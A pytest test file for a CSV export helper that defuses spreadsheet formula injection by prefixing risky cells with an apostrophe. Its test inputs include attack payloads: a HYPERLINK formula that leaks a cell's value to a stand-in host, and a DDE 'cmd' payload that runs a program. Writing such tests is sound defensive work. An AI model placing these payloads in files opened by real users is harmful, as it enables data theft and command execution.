"""No text of a CSV file is taken for a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from workbench.base.csv_cells import csv_line


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://example.org?x="&A1,"click")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "  =1+1",
        "- a list\n- of two",
    ],
)
def test_a_text_that_begins_like_a_formula_is_made_text(text: str) -> None:
    [[cell]] = csv.reader(io.StringIO(csv_line([text]), newline=""))
    assert cell == f"'{text}"


@pytest.mark.parametrize("value", ["-5", "+3.5", "-1,234.50", "-7 %", "a = b", "5", "", "x;=1+1"])
def test_other_texts_stay_as_they_are(value: str) -> None:
    line = csv_line([value])
    assert line == f'"{value}"\r\n', "in quotes: no other separator divides it"


def test_numbers_are_written_as_numbers() -> None:
    assert csv_line([-1.5, 3, None, True]) == '-1.5,3,"",True\r\n'
